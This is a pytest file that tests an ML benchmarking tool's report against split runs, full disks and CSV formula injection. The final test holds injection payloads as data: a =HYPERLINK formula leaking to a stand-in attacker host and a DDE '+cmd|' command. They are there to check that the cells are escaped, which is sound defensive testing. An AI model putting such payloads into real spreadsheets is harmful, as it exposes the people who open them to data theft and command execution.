"""Faults of the report and the disk (issue 23): records of one run hidden by the merge, a full
disk, formula injection in report.csv. Each test runs real scripts and reads the files they leave."""

import contextlib
import csv
import errno
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from conftest import QUICK, mlagility, scripts_corpus
from mlagility import config, records
from mlagility.common.jsonlines import read_lines
from mlagility.engine.job import run_job
from mlagility.report.__main__ import main as report_main

pytestmark = pytest.mark.faults


def report(*paths: Path, out: Path, capsys) -> tuple[int, str, str]:
    """``python -m mlagility.report PATHS --out OUT`` (its entry point, in this process): the exit
    code, what it printed and what it said on stderr."""
    capsys.readouterr()
    try:
        code = report_main([*map(str, paths), "--out", str(out)])
    except SystemExit as exit_:
        code = exit_.code
    printed = capsys.readouterr()
    return code, printed.out, printed.err


def report_line(*paths: Path, out: Path, capsys) -> str:
    """The counts the report prints first."""
    code, printed, said = report(*paths, out=out, capsys=capsys)
    assert code == 0, said
    return printed.splitlines()[0]


@pytest.fixture(scope="module")
def linear_job(tmp_path_factory) -> Path:
    """A job folder with one measured record (selftest's linear.py on torch-eager)."""
    folder = tmp_path_factory.mktemp("linear") / "job"
    run_job(config.compose([*QUICK, f"cache_dir={folder.parent / 'cache'}", "corpus=selftest",
                            "corpus.include=[linear.py]", "runtime=torch-eager"]), folder)
    return folder


def test_records_of_one_run_never_supersede_each_other_only_a_later_run_does(run, tmp_path, capsys):
    """A script calls two models, then segfaults: each model gets a ``killed`` record, both in one
    run. The report once showed one of them ("1 record(s), 1 failed, 1 superseded"); the same
    script run again is a later run, whose records retire the first run's, and the counts say so."""
    first = run(*scripts_corpus("two_models_segfault"), "runtime=torch-eager", job_dir=tmp_path / "first")
    assert [(r.variable, r.status) for r in first] == [("encoder", "killed"), ("head", "killed")]
    assert len({r.invocation_hash for r in first}) == 2 and len({r.run_id for r in first}) == 1

    assert report_line(tmp_path / "first", out=tmp_path / "one", capsys=capsys) == \
        "2 record(s), 2 failed, from 1 run(s); 0 superseded by a later run"
    table = pd.read_csv(tmp_path / "one" / "report.csv")
    assert sorted(table["variable"]) == ["encoder", "head"] and set(table["status"]) == {"killed"}

    again = run(*scripts_corpus("two_models_segfault"), "runtime=torch-eager", job_dir=tmp_path / "again")
    assert {r.run_id for r in again}.isdisjoint({r.run_id for r in first})
    assert report_line(tmp_path / "first", tmp_path / "again", out=tmp_path / "both", capsys=capsys) == \
        "2 record(s), 2 failed, from 1 run(s); 2 superseded by a later run"
    table = pd.read_csv(tmp_path / "both" / "report.csv")
    assert sorted(table["variable"]) == ["encoder", "head"] and set(table["run_id"]) == {again[0].run_id}


@pytest.fixture
def small_disk(tmp_path):
    """A 1 MiB tmpfs mounted at ``tmp_path/disk`` (root can mount one, as in CI); the test is
    skipped, saying why, where mounting is not permitted."""
    folder = tmp_path / "disk"
    folder.mkdir()
    try:
        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)],
                                 capture_output=True, text=True)
    except FileNotFoundError:
        pytest.skip("cannot mount a small tmpfs to fill: no mount command here")
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs to fill (needs root): {mounted.stderr.strip()}")
    yield folder
    subprocess.run(["umount", "--lazy", str(folder)], check=True)


def fill(disk: Path) -> None:
    """Fill ``disk`` to the last byte with a file."""
    with open(disk / "filler", "wb", buffering=0) as file:
        with contextlib.suppress(OSError):
            while True:
                file.write(b"\0" * 65536)


def test_a_build_on_a_full_disk_is_a_record_naming_the_disk_and_leaves_nothing_behind(small_disk, tmp_path):
    """The cache on a full disk: the build's record once said "the worker exited with code 1" and
    its staging folder stayed, keeping the disk full. Now the record names the disk and the fix,
    nothing half-written is left in the cache, and the failure is not kept (no build folder: with
    space again, the next run builds)."""
    cache = small_disk / "cache"
    fill(small_disk)
    run_job(config.compose([*QUICK, f"cache_dir={cache}", "corpus=selftest", "corpus.include=[linear.py]",
                            "runtime=ort"]), tmp_path / "full")
    [record] = records.read(tmp_path / "full" / records.RESULTS_FILE)
    assert record.status == "export_error" and record.variable, record.reason
    assert record.reason == (f"export failed: no space left on device in {cache / 'builds'}: free some space or "
                             "point cache_dir= elsewhere")
    assert not [p for p in (cache / "builds" / ".staging").glob("*")]
    assert not [p for p in cache.rglob("*.tmp")]
    assert not [p for p in (cache / "builds").iterdir() if not p.name.startswith(".")]


def test_an_append_to_a_full_disk_leaves_no_torn_line(linear_job, small_disk):
    """A record that does not fit once left the start of its line in results.jsonl."""
    [record] = records.read(linear_job / records.RESULTS_FILE)
    results = small_disk / records.RESULTS_FILE
    records.append(results, record)
    fill(small_disk)
    with pytest.raises(OSError) as full:
        while True:  # the file's last block still has room for some records
            before = results.read_bytes()
            records.append(results, record)
    assert full.value.errno == errno.ENOSPC
    assert results.read_bytes() == before and before.endswith(b"\n")
    assert all(r.to_dict() == record.to_dict() for r in records.read(results))


def test_a_run_folder_that_fills_up_stops_with_one_line_naming_the_disk(small_disk):
    """A script fills the disk that holds its run folder: once a raw OSError traceback from Hydra,
    a torn or empty results.jsonl and a 0-byte report.csv. Now one line names the disk, the fix
    and how to finish (exit 2), and no file is left torn or empty."""
    folder = small_disk / "run"
    done = mlagility(*scripts_corpus("fills_the_disk"), "runtime=torch-eager", f"+env.FILL_DISK={small_disk / 'filler'}",
                     f"hydra.run.dir={folder}", tmp_path=small_disk.parent)
    assert done.returncode == 2, done.stderr
    assert (f"mlagility: no space left on device in {folder}: free some space or point hydra.run.dir= "
            "(hydra.sweep.dir= for a sweep) elsewhere") in done.stderr
    assert "resume=true retry_interrupted=true" in done.stderr
    assert "Traceback" not in done.stderr + done.stdout  # Hydra's, or the worker's that could not write its log
    assert f"report: no space left on device in {folder}" in done.stdout or not (folder / "results.jsonl").exists()
    for path in folder.rglob("*"):
        assert not path.name.endswith(".tmp") and path.name not in ("report.csv", "report.html")
        if path.name.endswith(".jsonl"):
            assert path.stat().st_size > 0 and path.read_bytes().endswith(b"\n")
            assert len(list(read_lines(path))) == path.read_bytes().count(b"\n")


def test_a_report_onto_a_full_disk_leaves_no_empty_file_and_the_last_report_whole(linear_job, small_disk, capsys):
    """A report written onto a full disk once left a 0-byte report.csv (and a traceback). Now it
    says so in one line (exit 2) and leaves nothing; a report written there before stays whole."""
    last = small_disk / "last"
    report_line(linear_job, out=last, capsys=capsys)
    written = {path.name: path.read_bytes() for path in last.iterdir()}
    fill(small_disk)
    for out in (small_disk / "fresh", last):
        code, _, said = report(linear_job, out=out, capsys=capsys)
        assert code == 2, said
        assert said.strip().endswith(f"no space left on device in {out}: free some space or write the report "
                                     "elsewhere (--out DIR)")
    assert not list((small_disk / "fresh").iterdir())
    assert {path.name: path.read_bytes() for path in last.iterdir()} == written


def test_report_csv_cells_that_begin_like_formulas_are_text_and_numbers_stay_numbers(run, tmp_path, capsys):
    """Cells beginning with =, +, -, @ were written raw: a spreadsheet opening report.csv ran
    =HYPERLINK(...). Each such text cell now begins with ' (as OWASP recommends); a negative
    parameter (alpha=-1.5) is still a number."""
    run(*scripts_corpus("formula_labels"), "runtime=torch-eager", "alpha=-1.5", job_dir=tmp_path / "job")
    report_line(tmp_path / "job", out=tmp_path / "report", capsys=capsys)
    tables = {}
    for name in ("report.csv", "comparison.csv"):
        with open(tmp_path / "report" / name, newline="") as file:
            rows = tables[name] = list(csv.DictReader(file))
        assert rows and rows[0]["model_name"] == "'=HYPERLINK(\"http://attacker.example/?leak=1\")"
        assert rows[0]["parameters.alpha"] == "-1.5"
        for row in rows:
            for cell in row.values():
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only a number may begin so
    [row] = tables["report.csv"]
    assert (row["author"], row["task"], row["license"]) == ("'@SUM(1+1)", "'+cmd|'/c_calc'!A0", "'-2+3")
    assert pd.read_csv(tmp_path / "report" / "report.csv")["parameters.alpha"].dtype == float
